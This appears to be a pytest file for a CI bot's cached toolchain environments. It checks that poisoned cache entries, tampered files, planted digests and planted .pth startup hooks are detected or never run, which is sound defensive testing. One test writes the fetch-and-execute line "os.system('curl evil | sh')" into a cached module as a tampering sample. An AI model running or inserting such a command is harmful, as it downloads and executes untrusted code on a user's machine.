"""The kept per-side toolchain environments (``checks.toolchain_env.cached_environment``): one
left in the cache by anything but kernel-review is not used; only a trusted run writes the
cache; every use checks the digest of the environment's files."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from bot.errors import ToolchainError
from checks.toolchain_env import cached_environment, env_key, make_environment


def test_an_environment_planted_in_the_cache_is_not_used(tmp_path: Path) -> None:
    resolved = ["triton==9.9.9"]  # no such release: made afresh, the install fails
    planted = tmp_path / env_key(resolved)
    (planted / "bin").mkdir(parents=True)
    (planted / "bin" / "python").write_text("#!/bin/sh\necho poisoned\n")
    (planted / "kernel-review-env.json").write_text('{"resolved": ["triton==9.9.9"]}')
    with pytest.raises(ToolchainError, match=r"installing triton==9\.9\.9 failed"):
        make_environment(resolved, tmp_path)
    assert not planted.exists()  # a trusted run removed it
    assert not list(tmp_path.glob("*.partial-*"))  # nor left half an environment


def _builder(calls: list[Path]) -> Callable[[Path], None]:
    def build(into: Path) -> None:
        calls.append(into)
        (into / "lib").mkdir(parents=True)
        (into / "lib" / "triton.py").write_text("VERSION = '3.5.1'\n")

    return build


def test_a_trusted_run_keeps_what_it_builds_and_uses_it_while_it_matches(tmp_path: Path) -> None:
    calls: list[Path] = []
    folder, note = cached_environment(tmp_path, "k", _builder(calls), trusted=True)
    assert (folder, note) == (tmp_path / "k", "")
    assert (tmp_path / "k.sha256").read_text().strip()
    again, note = cached_environment(tmp_path, "k", _builder(calls), trusted=False)
    assert (again, note, len(calls)) == (folder, "", 1)  # a pull request's run reads it


def test_a_changed_environment_is_refused_and_only_a_trusted_run_replaces_it(
    tmp_path: Path,
) -> None:
    calls: list[Path] = []
    kept, _ = cached_environment(tmp_path, "k", _builder(calls), trusted=True)
    (kept / "lib" / "triton.py").write_text("import os; os.system('curl evil | sh')\n")
    folder, note = cached_environment(tmp_path, "k", _builder(calls), trusted=False)
    assert folder != kept and not folder.is_relative_to(tmp_path)  # a throw-away one
    assert "did not match its digest and was not used" in note
    assert "evil" in (kept / "lib" / "triton.py").read_text()  # the cache is left as it is
    folder, note = cached_environment(tmp_path, "k", _builder(calls), trusted=True)
    assert folder == kept and "was made again" in note
    assert (kept / "lib" / "triton.py").read_text() == "VERSION = '3.5.1'\n"


def test_an_untrusted_run_writes_nothing_to_the_cache(tmp_path: Path) -> None:
    calls: list[Path] = []
    cache = tmp_path / "envs"
    folder, note = cached_environment(cache, "k", _builder(calls), trusted=False)
    assert (folder / "lib" / "triton.py").is_file() and note == ""
    assert not cache.exists() or not any(cache.iterdir())


def test_a_digest_planted_for_a_folder_that_is_not_there_is_ignored(tmp_path: Path) -> None:
    calls: list[Path] = []
    cached_environment(tmp_path / "a", "k", _builder(calls), trusted=True)
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "k.sha256").write_text((tmp_path / "a" / "k.sha256").read_text())
    folder, _ = cached_environment(tmp_path / "b", "k", _builder(calls), trusted=False)
    assert folder != tmp_path / "b" / "k" and len(calls) == 2


def test_the_key_names_the_indexes_and_the_interpreter() -> None:
    assert env_key(["triton==3.5.1"]) != env_key(["triton==3.5.1"], ["https://mirror.example"])
    assert env_key(["a==1", "b==2"]) == env_key(["b==2", "a==1"])


def test_reading_an_environments_versions_runs_none_of_its_packages_code(tmp_path: Path) -> None:
    """A side's environment holds the checkout's dependencies: a ``.pth`` file of one of them
    runs at every interpreter start that processes site-packages, outside the sandbox when it
    is the bot reading the versions. The versions are read from the packages' metadata alone."""
    import subprocess
    import sys

    from checks.toolchain_env import RUNNER_PTH, _env_python, _query_versions

    env = tmp_path / "env"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(env)], check=True)
    python = _env_python(env)
    [site] = (env / "lib").glob("python*/site-packages")  # the environment's own, made empty
    dist = site / "torch-9.9.0.dist-info"
    dist.mkdir()
    (dist / "METADATA").write_text("Metadata-Version: 2.1\nName: torch\nVersion: 9.9.0\n")
    ran = tmp_path / "ran"
    (site / "planted.pth").write_text(f"import pathlib; pathlib.Path({str(ran)!r}).touch()\n")
    assert _query_versions(python) == {"torch": "9.9.0"}
    assert not ran.exists()
    # a made environment sees the runner's packages after its own (its RUNNER_PTH line): those
    # count too, its own first
    runner = tmp_path / "runner-site"
    (runner / "numpy-1.2.3.dist-info").mkdir(parents=True)
    (runner / "numpy-1.2.3.dist-info" / "METADATA").write_text("Name: numpy\nVersion: 1.2.3\n")
    (runner / "torch-1.0.dist-info").mkdir()
    (runner / "torch-1.0.dist-info" / "METADATA").write_text("Name: torch\nVersion: 1.0\n")
    (site / RUNNER_PTH).write_text(f"import site; site.addsitedir({str(runner)!r})\n")
    assert _query_versions(python) == {"torch": "9.9.0", "numpy": "1.2.3"}
    assert not ran.exists()
